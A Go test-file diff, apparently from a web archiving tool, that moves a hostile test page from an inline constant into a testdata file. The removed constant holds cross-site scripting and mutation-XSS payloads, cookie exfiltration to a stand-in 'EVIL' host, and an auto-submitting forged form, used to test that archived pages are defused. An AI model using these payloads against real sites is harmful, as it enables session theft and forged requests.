@@ -6,6 +6,7 @@ import (
 	"net/http"
 	"net/http/httptest"
 	"net/url"
+	"os"
 	"slices"
 	"strings"
 	"sync"
@@ -20,26 +21,13 @@ import (
 // their cookies, their window, a request with their rights, or only to be noticed
 // by its owner. All of it is in what is archived, and some of it is written so
 // that a rewriter and a browser would read it differently.
-const hostilePage = `<!doctype html><html><head><title>Hostile</title>
-<meta http-equiv="refresh" content="1;url=EVIL/refresh">
-<base target="_top">
-<link rel="stylesheet" href="EVIL/style.css"><link rel="preload" as="image" href="EVIL/preload.png"><link rel="dns-prefetch" href="//evil.test">
-<style>@import "EVIL/import.css"; body { background: url(EVIL/background.png) } @font-face { font-family: x; src: url(EVIL/font.woff) }</style>
-</head><body onload="fetch('EVIL/onload')" style="font-family: x; background-image: url('EVIL/inline.png')">
-<p>A page that means harm, with text enough to be a block of its own, so that it is archived.</p>
-<script>window.name = 'hostile'; fetch('EVIL/script?' + document.cookie); parent.postMessage('hostile', '*')</script>
-<img src="EVIL/pixel.png" srcset="EVIL/pixel2.png 2x" onerror="fetch('EVIL/onerror')">
-<img src="data:image/png;base64,AAAA" onerror="fetch('/api/v1/urls', { method: 'POST', body: 'http://evil.test/' })">
-<svg><style><img src=x onerror="fetch('EVIL/mutation')"></style><script>fetch('EVIL/svgscript')</script><a xlink:href="javascript:fetch('EVIL/svglink')"><text y="20">x</text></a></svg>
-<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('EVIL/mxss')&gt;"></style></mglyph></table></mtext></math>
-<noscript><p title="</noscript><img src=x onerror=fetch('EVIL/noscript')>"></noscript>
-<iframe src="EVIL/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.parent.location='EVIL/top'&lt;/script&gt;"></iframe>
-<object data="EVIL/object"></object><embed src="EVIL/embed"><video src="EVIL/video" poster="EVIL/poster.png" autoplay></video>
-<form id="f" action="/api/v1/urls" method="post"><input name="url" value="http://evil.test/"><button id="send" autofocus>Send</button></form>
-<a id="top" href="EVIL/click" target="_top">top</a> <a id="js" href="javascript:fetch('EVIL/jslink')">js</a> <a id="ping" href="#x" ping="EVIL/ping">ping</a>
-<template shadowrootmode="open"><script>fetch('EVIL/shadow')</script></template>
-<script>top.location = 'EVIL/top'; document.forms[0].submit()</script>
-</body></html>`
+var hostilePage = func() string {
+	b, err := os.ReadFile("../replay/testdata/hostile.html")
+	if err != nil {
+		panic(err)
+	}
+	return string(b)
+}()
 
 // commitPage stores html as a version of url with one block, without asking a
 // browser what is left of it.
